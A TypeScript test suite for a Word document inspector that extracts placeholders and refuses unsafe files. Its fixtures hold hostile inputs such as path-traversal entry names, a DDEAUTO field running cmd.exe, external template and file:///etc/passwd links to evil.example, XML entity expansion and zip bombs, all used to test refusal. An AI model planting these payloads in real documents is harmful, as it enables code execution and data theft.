import { setFlagsFromString } from 'node:v8'
import { runInNewContext } from 'node:vm'
import { strToU8, Zip, ZipDeflate, zipSync } from 'fflate'
import { describe, expect, it, vi } from 'vitest'
import { CONTENT_TYPES, documentOf, makeDocx, relationshipsOf, zipDocx } from '#test/support/make-docx.ts'
import { inspectDocx } from '#workers/setup/docx/inspect-docx.ts'
import { RefusedDocx } from '#workers/setup/docx/refused-docx.ts'

const MIB = 1024 * 1024
const signal = new AbortController().signal
const inspect = (bytes: Uint8Array) => inspectDocx(bytes, signal)
const run = (text: string) => `<w:r><w:t xml:space="preserve">${text}</w:t></w:r>`
const BODY = { placeholders: ['BODY'], tables: [], errors: [] }

/** The first thing that speaks against it. */
async function refusalOf(bytes: Uint8Array): Promise<{ code: string; detail: string } | undefined> {
  try {
    const [first] = (await inspect(bytes)).errors
    return first
  } catch (error) {
    if (error instanceof RefusedDocx) return { code: error.code, detail: error.message }
    throw error
  }
}

describe('what can be filled', () => {
  it('is found over several runs, in the document, headers and footers, with the tables that have an id', async () => {
    const docx = await makeDocx({ placeholders: ['TITLE', 'BODY', 'Body:Section_4'], tables: ['TBL_VOTES', 'TBL_1'] })
    const { placeholders, tables, errors } = await inspect(docx)
    expect(placeholders.sort()).toEqual(['BODY', 'Body:Section_4', 'SESSION_ID', 'TITLE', 'VERSION'])
    expect(tables.sort()).toEqual(['TBL_1', 'TBL_VOTES'])
    expect(errors).toEqual([])
  })

  it.each([
    [
      'within a text box of a paragraph',
      `<w:p>${run('{{A')}<w:r><w:pict><w:p>${run('{{IN}}')}</w:p></w:pict></w:r>${run('B}}')}</w:p>`,
      ['IN', 'AB'],
    ],
    ['several of one paragraph, each once', `<w:p>${run('{{A}} and {{B}}{{A}}')}</w:p>`, ['A', 'B']],
    ['not over two paragraphs', `<w:p>${run('{{A')}</w:p><w:p>${run('B}}')}</w:p>`, []],
    ['not over a line break', `<w:p>${run('{{A')}<w:r><w:br/></w:r>${run('B}}')}</w:p>`, []],
    ['not what is deleted', `<w:p><w:del><w:r><w:delText>{{A}}</w:delText></w:r></w:del></w:p>`, []],
    ['not what has another form', `<w:p>${run('{{1A}} {{A B}} {A} {{}}')}</w:p>`, []],
    ['not one longer than a name may be', `<w:p>${run(`{{${'A'.repeat(101)}}}`)}</w:p>`, []],
  ])('%s', async (_, body, placeholders) => {
    expect(await inspect(zipDocx({ 'word/document.xml': documentOf(body) }))).toMatchObject({ placeholders })
  })

  it('a caption that is no id is a caption', async () => {
    const body = '<w:tbl><w:tblPr><w:tblCaption w:val="Votes of the year"/></w:tblPr></w:tbl><w:p/>'
    expect(await inspect(zipDocx({ 'word/document.xml': documentOf(body) }))).toMatchObject({ tables: [] })
  })
})

describe('an archive may be written', () => {
  const parts = {
    '[Content_Types].xml': CONTENT_TYPES,
    'word/document.xml': documentOf(`<w:p>${run('{{BODY}}')}</w:p>`),
  }
  it('as a stream, its sizes behind each entry', async () => {
    const chunks: Uint8Array[] = []
    const zip = new Zip((_, chunk) => chunks.push(chunk))
    for (const [name, content] of Object.entries(parts)) {
      const entry = new ZipDeflate(name)
      zip.add(entry)
      entry.push(strToU8(content), true)
    }
    zip.end()
    expect(await inspect(Buffer.concat(chunks))).toMatchObject(BODY)
  })

  it('uncompressed, and with its folders as entries', async () => {
    const folders = { 'word/': new Uint8Array(), 'word/media/': new Uint8Array() }
    const all = Object.entries(parts).map(([name, content]) => [name, strToU8(content)])
    expect(await inspect(zipSync({ ...folders, ...Object.fromEntries(all) }, { level: 0 }))).toMatchObject(BODY)
  })
})

describe('what is no Word document is refused', () => {
  const whole = zipDocx()
  it.each([
    ['nothing', new Uint8Array()],
    ['a picture', strToU8('\x89PNG\r\n\x1a\n'.padEnd(200, 'x'))],
    ['the beginning of an archive alone', whole.slice(0, 60)],
    ['an archive cut in the middle', whole.slice(0, whole.length - 40)],
    ['an archive with something behind it', Buffer.concat([whole, Buffer.from('<html><script>alert(1)</script>')])],
    ['an archive behind something else', Buffer.concat([Buffer.from('GIF89a'), whole])],
    ['an archive with a hole in its bytes', holed(whole)],
    ['an archive of other things', zipSync({ 'readme.txt': strToU8('x') })],
    ['a spreadsheet', zipDocx({ 'word/document.xml': undefined, 'word/x.xml': '<x/>' })],
    ['a document of no declared type', zipDocx({ '[Content_Types].xml': '<Types/>' })],
    ['one without [Content_Types].xml', zipDocx({ '[Content_Types].xml': undefined })],
    ['one whose document is not XML', zipDocx({ 'word/document.xml': 'w:body' })],
    ['one whose document is not well-formed', zipDocx({ 'word/document.xml': documentOf('<w:p>') })],
    ['one whose document has no body', zipDocx({ 'word/document.xml': '<html/>' })],
    [
      'one nested without end',
      zipDocx({ 'word/document.xml': documentOf('<w:p>'.repeat(5000) + '</w:p>'.repeat(5000)) }),
    ],
    ['one in UTF-16', zipDocx({ 'word/document.xml': Buffer.from(`\ufeff${documentOf('<w:p/>')}`, 'utf16le') })],
    ['one that says it is in UTF-7', zipDocx({ 'word/document.xml': documentOf('').replace('UTF-8', 'UTF-7') })],
    ['a JAR as well', zipDocx({ 'META-INF/MANIFEST.MF': 'Main-Class: Evil' })],
  ])('%s', async (_, bytes) => {
    expect(await refusalOf(bytes)).toMatchObject({ code: 'NOT_A_DOCX' })
  })

  it.each([
    '../../etc/passwd',
    'word/../../x.xml',
    '/etc/passwd',
    'C:\\x.xml',
    'word\\x.xml',
    'word/\u0000.xml',
    'word/x\r\n.xml',
  ])('with an entry named %j', async name => {
    expect(await refusalOf(zipDocx({ [name]: 'x' }))).toMatchObject({ code: 'NOT_A_DOCX' })
  })

  it('with an entry that another one hides where case does not count', async () => {
    expect(await refusalOf(zipDocx({ 'word/Document.xml': documentOf('') }))).toMatchObject({ code: 'NOT_A_DOCX' })
  })

  it('with an entry that its directory does not tell of', async () => {
    const hidden = Buffer.concat([firstEntryOf(zipSync({ 'word/hidden.xml': strToU8('<x/>') })), whole])
    const moved = shiftDirectory(hidden, hidden.length - whole.length)
    expect(await refusalOf(moved)).toMatchObject({ code: 'NOT_A_DOCX' })
  })
})

describe('what acts or reaches out when it is opened is refused', () => {
  it.each([
    'word/vbaProject.bin',
    'word/VBAPROJECT.BIN',
    'word/vbaData.xml',
    'word/activeX/activeX1.bin',
    'word/embeddings/oleObject1.bin',
  ])('%s', async name => {
    expect(await refusalOf(zipDocx({ [name]: 'x' }))).toMatchObject({ code: 'MACROS' })
  })

  it('macros under another name, by their type', async () => {
    const types = CONTENT_TYPES.replace(
      '</Types>',
      '<Override PartName="/word/harmless.xml" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    expect(await refusalOf(zipDocx({ '[Content_Types].xml': types }))).toMatchObject({ code: 'MACROS' })
  })

  const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  const withRelationship = (type: string, target: string, mode: string | undefined = ' TargetMode="External"') =>
    zipDocx({
      'word/_rels/document.xml.rels': relationshipsOf(
        `<Relationship Id="rId1" Type="${TYPE}/${type}" Target="${target}"${mode}/>`,
      ),
    })
  it.each<[string, string, string?]>([
    ['attachedTemplate', 'https://evil.example/t.dotm'],
    ['image', 'https://evil.example/x.png'],
    ['oleObject', 'file:///etc/passwd'],
    ['hyperlink', 'file:///c:/windows/system32/calc.exe'],
    ['hyperlink', 'javascript:alert(1)'],
    ['image', 'https://evil.example/x.png', ''],
    ['image', '\\\\evil\\share\\x.png', ''],
    ['aFChunk', 'chunk.html', ''],
  ])('a relationship %s to %s', async (type, target, mode) => {
    expect(await refusalOf(withRelationship(type, target, mode))).toMatchObject({ code: 'EXTERNAL_CONTENT' })
  })
  it.each(['https://example.org/', 'mailto:ada@example.org'])('but a link to %s is a link', async target => {
    expect(await inspect(withRelationship('hyperlink', target))).toMatchObject(BODY)
  })

  const field = (instruction: string) =>
    documentOf(
      `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
    )
  it.each([
    ['DDEAUTO', field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')],
    ['INCLUDETEXT', field(' INCLUDETEXT "https://evil.example/x"')],
    ['one split over runs', field('DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd')],
    ['a simple one', documentOf('<w:p><w:fldSimple w:instr=" INCLUDEPICTURE https://evil.example/x"/></w:p>')],
  ])('a field that reaches out: %s', async (_, document) => {
    expect(await refusalOf(zipDocx({ 'word/document.xml': document }))).toMatchObject({ code: 'EXTERNAL_CONTENT' })
  })
  it('but a page number is a page number', async () => {
    expect(await refusalOf(zipDocx({ 'word/document.xml': field(' PAGE ') }))).toBeUndefined()
  })

  const BILLION = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
  it.each([
    ['the document', 'word/document.xml', documentOf('').replace('<w:document', `${BILLION}<w:document`)],
    ['a part that is not read', 'word/styles.xml', `${BILLION}<w:styles/>`],
    ['a part in UTF-16', 'customXml/item1.xml', Buffer.from(`${BILLION}<x/>`, 'utf16le')],
    ['a part far behind its beginning', 'word/theme.xml', `<x>${'y'.repeat(70_000)}</x><!doctype z>`],
  ])('a document type in %s', async (_, name, content) => {
    const refusal = await refusalOf(zipDocx({ [name]: content }))
    expect(['DOCTYPE', 'NOT_A_DOCX']).toContain(refusal?.code)
  })
})

describe('what unpacks beyond measure', () => {
  it('is refused as soon as it is clear, and memory stays flat', async () => {
    const bomb = zipDocx({ 'word/media/image1.bmp': new Uint8Array(200 * MIB) })
    expect(bomb.length).toBeLessThan(MIB)
    setFlagsFromString('--expose-gc')
    const collect = runInNewContext('gc') as () => void
    const buffers = () => process.memoryUsage().arrayBuffers
    collect()
    const before = buffers()
    expect(await refusalOf(bomb)).toMatchObject({ code: 'TOO_LARGE' })
    // At most what may be unpacked, should none of it have been collected yet; and none of it is kept.
    expect(buffers() - before).toBeLessThan(150 * MIB)
    // What was collected is given back beside the program.
    await vi.waitFor(() => {
      collect()
      expect(buffers() - before).toBeLessThan(5 * MIB)
    }, 10_000)
  })

  it('also when its directory says that it is small', async () => {
    const bomb = zipDocx({ 'word/media/image1.bmp': new Uint8Array(120 * MIB) })
    const lying = lieAboutSize(bomb, 120 * MIB, 10)
    expect(await refusalOf(lying)).toMatchObject({ code: 'TOO_LARGE' })
  })

  it('and one that lies a little is no archive of ours either', async () => {
    const content = strToU8('<w:styles/>'.padEnd(1000))
    expect(await refusalOf(lieAboutSize(zipDocx({ 'word/styles.xml': content }), 1000, 999))).toMatchObject({
      code: 'NOT_A_DOCX',
    })
  })

  it.each([
    ['a part too large to be read', { 'word/document.xml': documentOf(randomText(9 * MIB)) }],
    ['parts too large together', Object.fromEntries([1, 2, 3].map(n => [`word/header${n}.xml`, randomText(6 * MIB)]))],
    ['too many entries', Object.fromEntries(Array.from({ length: 2001 }, (_, n) => [`word/media/${n}.png`, 'x']))],
  ])('%s', async (_, parts) => {
    expect(await refusalOf(zipDocx(parts))).toMatchObject({ code: 'TOO_LARGE' })
  })

  it('is given up when the worker stops', async () => {
    const media = zipDocx({ 'word/media/image1.bin': strToU8(randomText(MIB)) })
    await expect(inspectDocx(media, AbortSignal.abort(new Error('stopping')))).rejects.toThrow()
  })
})

/** Hardly to be compressed, so that no ratio speaks against it. */
function randomText(length: number): string {
  let state = 1
  const letter = () => {
    state = (state * 48_271) % 2_147_483_647
    return 97 + (state % 26)
  }
  return Buffer.from(Uint8Array.from({ length }, letter)).toString()
}

function holed(archive: Uint8Array): Uint8Array {
  const broken = archive.slice()
  broken.fill(0xff, 60, 90)
  return broken
}

/** Replaces a size wherever the directory has it. */
function lieAboutSize(archive: Uint8Array, size: number, lie: number): Uint8Array {
  const copy = Buffer.from(archive)
  const directory = copy.readUInt32LE(copy.length - 6)
  for (let at = directory; at < copy.length - 3; at++) if (copy.readUInt32LE(at) === size) copy.writeUInt32LE(lie, at)
  return copy
}

/** The bytes before the directory. */
function firstEntryOf(archive: Uint8Array): Uint8Array {
  return archive.slice(0, Buffer.from(archive).readUInt32LE(archive.length - 6))
}

/** Makes the addresses of a directory right again after something was put in front. */
function shiftDirectory(archive: Buffer, by: number): Uint8Array {
  const end = archive.length - 22
  const directory = archive.readUInt32LE(end + 16) + by
  archive.writeUInt32LE(directory, end + 16)
  for (let at = directory; archive.readUInt32LE(at) === 0x02014b50; ) {
    archive.writeUInt32LE(archive.readUInt32LE(at + 42) + by, at + 42)
    at += 46 + archive.readUInt16LE(at + 28) + archive.readUInt16LE(at + 30) + archive.readUInt16LE(at + 32)
  }
  return archive
}
